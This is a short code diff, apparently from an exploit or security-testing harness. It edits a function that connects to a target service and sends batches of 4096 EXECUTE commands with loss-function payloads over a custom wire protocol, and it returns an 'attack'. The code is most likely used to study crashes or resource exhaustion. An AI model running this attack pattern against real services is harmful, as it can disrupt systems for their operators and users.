@@ -29,14 +29,10 @@ def recurse(stream: int):
         session = Session(target.connect()).begin()
         on_stream = wire.field(3, 1)
         for elements in (100_000, 100_000, 130_000):
-            session.send(wire.INLINE_EXECUTE, wire.field(1, ctc()) + on_stream, [wire.floats(0.0), bytes(8)])
-            body = wire.field(1, wire.l1_loss([elements], 1)) + (on_stream if stream else b"")
-            session.await_answers(
-                session.send_group(
-                    [session.command(wire.INLINE_EXECUTE, body, [wire.floats(1.0)]) for _ in range(4096)]
-                ),
-                20,
-            )
+            session.send(wire.EXECUTE, wire.field(1, ctc()) + on_stream, [wire.floats(0.0), bytes(8)])
+            losses = [wire.field(1, wire.l1_loss([elements], 1, first_raw=i)) for i in range(4096)]
+            commands = [session.command(wire.EXECUTE, loss + (on_stream if stream else b"")) for loss in losses]
+            session.await_answers(session.send_group(commands, [wire.floats(1.0)] * 4096), 20)
 
     return attack
 
